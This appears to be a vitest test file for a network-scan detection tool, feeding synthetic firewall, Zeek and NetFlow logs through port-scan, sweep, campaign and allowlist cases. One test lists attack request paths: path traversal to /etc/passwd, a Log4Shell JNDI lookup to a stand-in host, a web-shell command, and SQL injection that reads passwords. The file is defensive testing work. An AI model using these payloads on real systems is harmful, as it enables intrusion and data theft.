import { expect, test } from 'vitest';
import { AddressSet } from '../../src/model/address.ts';
import { allow, brief, expectScan, incidentsOf, only } from './judged.ts';
import {
  accessLog,
  conn,
  connLog,
  firewallLog,
  hour,
  packet,
  randomNumbers,
  request,
  shuffled,
  times,
} from '../../lab/log-lines.ts';
import type { Line } from '../../lab/log-lines.ts';
import { flowCapture, v5 } from '../flows.ts';

const scanner = '203.0.113.66';
const host = '198.51.100.10';
/** A thousand ports as a scanner goes through them: in no order. */
const thousandPorts = shuffled(
  times(1000, (i) => i + 1),
  1,
);

const portsOfHost = (from: string, more: (i: number) => Partial<Parameters<typeof conn>[0]>): Line[] =>
  thousandPorts.map((port, i) => conn({ at: i * 0.02, from, to: host, port, ...more(i) }));

test('1: SYN, one host, 1,000 ports: a scan', async () => {
  const log = connLog(
    portsOfHost(scanner, (i) => ({
      sourcePort: 51_000,
      state: i % 40 === 0 ? 'RSTO' : 'REJ',
      got: 0,
      sent: 0,
    })),
  );
  const incident = expectScan(await incidentsOf({ 'conn.log': log }), scanner, 'vertical', 'T1595.001');
  expect(incident.counts.ports).toBe(1000);
  expect(incident.learned.open.length).toBeGreaterThan(0);
});

test('2: the same by connect(), source ports varying: a scan', async () => {
  const log = connLog(
    portsOfHost(scanner, (i) => ({ sourcePort: 32_768 + i * 2, state: i % 40 === 0 ? 'RSTO' : 'REJ' })),
  );
  const incident = expectScan(await incidentsOf({ 'conn.log': log }), scanner, 'vertical', 'T1595.001');
  expect(incident.counts.ports).toBe(1000);
});

test('3: a /24 on port 445 in seconds: a scan', async () => {
  const lines = shuffled(
    times(256, (i) => i),
    2,
  ).map((last, i) => packet({ at: i * 0.03, from: scanner, to: `198.51.100.${last}`, port: 445 }));
  const incident = expectScan(
    await incidentsOf({ 'fw.log': firewallLog(lines) }),
    scanner,
    'horizontal',
    'T1595.001',
  );
  expect(incident.counts.targets).toBe(256);
});

test('4: 20 hosts × 20 ports in random order: a scan', async () => {
  const ports = [
    21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1723, 3306, 3389, 5900, 8080,
  ];
  const lines = shuffled(
    times(400, (i) => i),
    3,
  ).map((cell, i) =>
    packet({
      at: i * 0.2,
      from: scanner,
      to: `198.51.100.${40 + (cell % 20)}`,
      port: ports[Math.floor(cell / 20)],
    }),
  );
  const incident = expectScan(
    await incidentsOf({ 'fw.log': firewallLog(lines) }),
    scanner,
    'block',
    'T1595.001',
  );
  expect(incident.counts).toMatchObject({ targets: 20, ports: 20 });
});

test.each([
  ['FIN', 'FIN'],
  ['NULL', ''],
  ['Xmas', 'URG PSH FIN'],
])('5: %s, 10 ports: a stealth scan', async (_name, flags) => {
  const lines = times(10, (i) => packet({ at: i * 0.5, from: scanner, to: host, port: 20 + i * 11, flags }));
  const incident = expectScan(
    await incidentsOf({ 'fw.log': firewallLog(lines) }),
    scanner,
    'stealth',
    'T1595.001',
  );
  expect(incident.severity).toBe('medium');
});

test('6: an ACK scan: a scan, not backscatter', async () => {
  const lines = shuffled(
    times(60, (i) => i + 1),
    4,
  ).map((port, i) =>
    packet({ at: i * 0.1, from: scanner, to: host, port, sourcePort: 43_210, flags: 'ACK' }),
  );
  expectScan(await incidentsOf({ 'fw.log': firewallLog(lines) }), scanner, 'stealth', 'T1595.001');
});

const udpPorts = [
  7, 9, 17, 19, 49, 53, 67, 68, 69, 80, 88, 111, 120, 123, 135, 136, 137, 138, 139, 158, 161, 162, 177, 427,
];
const moreUdpPorts = [
  ...udpPorts,
  443,
  445,
  497,
  500,
  514,
  515,
  518,
  520,
  593,
  623,
  626,
  631,
  996,
  997,
  998,
  999,
];

test('7: UDP, ICMP unreachables come back: a scan', async () => {
  const lines = shuffled(moreUdpPorts, 5).flatMap((port, i) => [
    conn({ at: i * 0.4, from: scanner, to: host, port, sourcePort: 44_444, proto: 'udp', state: 'S0' }),
    // Zeek's view of the unreachable: type 3 in the one port's place, code 3 in the other's.
    conn({
      at: i * 0.4 + 0.01,
      from: host,
      to: scanner,
      sourcePort: 3,
      port: 3,
      proto: 'icmp',
      state: 'OTH',
    }),
  ]);
  const incident = expectScan(
    await incidentsOf({ 'conn.log': connLog(lines) }),
    scanner,
    'vertical',
    'T1595.001',
  );
  expect(incident.actor.addresses).toEqual([scanner]);
});

test('8: UDP, drops only and no replies: a scan, with less confidence', async () => {
  const ports = shuffled(moreUdpPorts, 5);
  const drops = ports.map((port, i) => packet({ at: i * 0.4, from: scanner, to: host, port, proto: 'UDP' }));
  const flows = ports.map((port, i) =>
    conn({ at: i * 0.4, from: scanner, to: host, port, sourcePort: 44_444, proto: 'udp' }),
  );
  const dropsOnly = expectScan(
    await incidentsOf({ 'fw.log': firewallLog(drops) }),
    scanner,
    'vertical',
    'T1595.001',
  );
  const seenWhole = only(await incidentsOf({ 'conn.log': connLog(flows) }));
  expect(dropsOnly.confidence).toBeLessThan(seenWhole.confidence);
  expect(dropsOnly.blindness.join(' ')).toMatch(/refused|drop/i);
});

test('9: ICMP echo to a /24: a scan', async () => {
  const lines = times(256, (i) =>
    conn({
      at: i * 0.05,
      from: scanner,
      to: `198.51.100.${i}`,
      sourcePort: 8,
      port: 0,
      proto: 'icmp',
      state: i % 16 === 0 ? 'SF' : 'OTH',
      sent: 56,
      got: i % 16 === 0 ? 56 : 0,
      duration: 0.001,
    }),
  );
  expectScan(await incidentsOf({ 'conn.log': connLog(lines) }), scanner, 'icmp-sweep', 'T1595.001');
});

test('10: one port an hour for ten days: a slow scan', async () => {
  const random = randomNumbers(10);
  const lines = times(240, (i) =>
    packet({ at: i * hour + random(600), from: scanner, to: host, port: 1 + i }),
  );
  const incident = expectScan(
    await incidentsOf({ 'fw.log': firewallLog(lines) }),
    scanner,
    'vertical',
    'T1595.001',
  );
  expect(incident.findings[0].traits).toContain('pace: slow');
});

test('11: 300 sources, one probe of 5060 each, tiling a /24: a campaign', async () => {
  const order = shuffled(
    times(300, (i) => i % 256),
    11,
  );
  const lines = order.map((last, i) =>
    packet({
      at: i * 30,
      from: `192.0.${2 + (i % 7)}.${1 + Math.floor(i / 7) * 5}`,
      to: `198.51.100.${last}`,
      port: 5060,
      proto: 'UDP',
    }),
  );
  const incident = only(await incidentsOf({ 'fw.log': firewallLog(lines) }));
  expect(incident).toMatchObject({ verdict: 'scan', kinds: ['campaign'] });
  expect(incident.actor.addresses).toHaveLength(300);
});

test('12: 300 unrelated sources at the usual rate of 23/tcp: background, no campaign', async () => {
  const random = randomNumbers(12);
  const lines = times(300 * 7, (i) =>
    packet({
      at: i * 288 + random(250),
      from: `${11 + random(180)}.${random(256)}.${random(256)}.${1 + random(254)}`,
      to: `198.51.100.${random(256)}`,
      port: 23,
      ttl: 30 + random(200),
      window: [1024, 5840, 14_600, 29_200, 64_240][random(5)],
    }),
  );
  const incidents = await incidentsOf({ 'fw.log': firewallLog(lines) });
  expect(incidents.length).toBeGreaterThan(0);
  for (const incident of incidents)
    expect(incident).toMatchObject({ verdict: 'background', severity: 'info' });
  expect(incidents.flatMap(({ kinds }) => kinds)).not.toContain('campaign');
});

test('13: an IPv6 scanner that rotates in its /64: one actor', async () => {
  const lines = times(120, (i) =>
    conn({
      at: i * 0.5,
      from: `2001:db8:bad:1::${(0x100 + i * 77).toString(16)}`,
      to: '2001:db8:51::10',
      port: 20 + i,
      state: 'REJ',
    }),
  );
  const incident = only(await incidentsOf({ 'conn.log': connLog(lines) }));
  expect(incident).toMatchObject({ verdict: 'scan', actor: { prefix: '2001:db8:bad:1::/64' } });
  expect(incident.kinds).toContain('vertical');
});

test('14: a scanner that mixes in 50 % hosts which are known to answer: a scan', async () => {
  const lines = shuffled(
    times(80, (i) => i),
    14,
  ).map((n, i) =>
    conn({
      at: i * 0.6,
      from: scanner,
      to: `198.51.100.${n + 1}`,
      port: 443,
      state: n % 2 === 0 ? 'SF' : 'S0',
    }),
  );
  expectScan(await incidentsOf({ 'conn.log': connLog(lines) }), scanner, 'horizontal', 'T1595.001');
});

test('19: banners of 40 services, no login: a scan (OAT-004)', async () => {
  const ports = [
    21, 22, 23, 25, 79, 110, 111, 119, 139, 143, 389, 445, 512, 513, 514, 548, 587, 631, 873, 993, 995, 1433,
    1521, 2049, 2121, 3000, 3306, 3389, 5000, 5432, 5900, 6000, 6379, 6667, 8000, 8080, 8443, 8888, 9200,
    11_211,
  ];
  const lines = ports.map((port, i) =>
    conn({
      at: i * 2,
      from: scanner,
      to: host,
      port,
      sourcePort: 35_000 + i,
      state: 'SF',
      history: 'ShAdFaf',
      sent: 0,
      got: 60 + i,
    }),
  );
  const incident = only(await incidentsOf({ 'conn.log': connLog(lines) }));
  expect(incident.verdict).toBe('scan');
  expect(incident.kinds).toContain('banner-grab');
});

test('20: a scan, then a neighbour exploits what was found: it escalates', async () => {
  const scan = times(60, (i) =>
    conn({ at: i * 0.2, from: '203.0.113.66', to: host, port: 20 + i, state: 'REJ' }),
  );
  const found = conn({ at: 13, from: '203.0.113.66', to: host, port: 8080, state: 'SF', sent: 0, got: 0 });
  const paths = [
    '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd',
    '/index.php?page=../../../../etc/passwd',
    '/?x=${jndi:ldap://203.0.113.99/a}',
    '/shell.php?cmd=id',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--',
  ];
  const exploit = paths.map((path, i) =>
    request({
      at: 600 + i * 3,
      from: '203.0.113.99',
      path,
      host: 'app.example.com',
      status: i === 4 ? 200 : 404,
      size: i === 4 ? 4711 : 153,
    }),
  );
  const logs = { 'conn.log': connLog([...scan, found]), 'access.log': accessLog(exploit) };
  const incidents = await incidentsOf(logs);
  const [worst] = incidents;
  expect(['high', 'critical']).toContain(worst.severity);
  expect(worst.techniques).toContain('T1190');
  // The scanner's incident says what came of it.
  const scanned = incidents.find(({ kinds }) => kinds.includes('vertical'))!;
  expect(brief([scanned])[0]).toMatch(/^scan (high|critical)/);
  expect(JSON.stringify([scanned.followed, scanned.reasons])).toContain('203.0.113.99');
});

const approved = (more: Partial<Parameters<typeof allow>[2]> = {}): ReturnType<typeof allow> =>
  allow('nessus', '192.0.2.77', { targets: AddressSet.parse(['198.51.100.0/28']), ...more });
const approvedScan = (targets: readonly string[]): string =>
  connLog(
    targets.flatMap((to, t) =>
      times(100, (i) => conn({ at: t * 20 + i * 0.1, from: '192.0.2.77', to, port: 1 + i, state: 'REJ' })),
    ),
  );

test('21: an approved scanner in its window: authorised', async () => {
  const inWindow = { days: [1], start: 8 * 60, end: 12 * 60 };
  const log = approvedScan(['198.51.100.4', '198.51.100.5']);
  const incident = only(
    await incidentsOf({ 'conn.log': log }, { allowlist: [approved({ schedule: inWindow })] }),
  );
  expect(incident).toMatchObject({ verdict: 'authorised', severity: 'info' });
  // Outside the window it alerts.
  const night = { days: [1], start: 0, end: 60 };
  const late = await incidentsOf({ 'conn.log': log }, { allowlist: [approved({ schedule: night })] });
  expect(brief(late).join()).toMatch(/scan (medium|high)/);
});

test('22: an approved scanner on a subnet that was not approved: an alert', async () => {
  const log = approvedScan(['198.51.100.4', '198.51.100.130']);
  const incidents = await incidentsOf({ 'conn.log': log }, { allowlist: [approved()] });
  expect(incidents.map(({ verdict }) => verdict).sort()).toEqual(['authorised', 'scan']);
  const alert = incidents.find(({ verdict }) => verdict === 'scan')!;
  expect(alert.severity).toBe('medium');
  expect(alert.targets.map(({ address }) => address)).toContain('198.51.100.130');
});

test('38: NetFlow 1:1000, three SYNs: insufficient evidence', async () => {
  const flows = times(3, (i) => ({
    from: scanner,
    to: host,
    ports: [50_000 + i, [22, 445, 3389][i]] as const,
    flags: 2,
    packets: 1,
    first: 1000 + i * 900,
  }));
  // Two bits of mode, then the interval.
  const bytes = flowCapture([v5({ uptime: 20_000, sampling: 0x4000 | 1000 }, flows)]);
  const incident = only(await incidentsOf({ 'flows.pcap': bytes }));
  expect(incident.verdict).toBe('insufficient');
  expect(['info', 'low']).toContain(incident.severity);
  expect(JSON.stringify([incident.reasons, incident.blindness])).toMatch(/1[,.]?000|sampl/i);
});
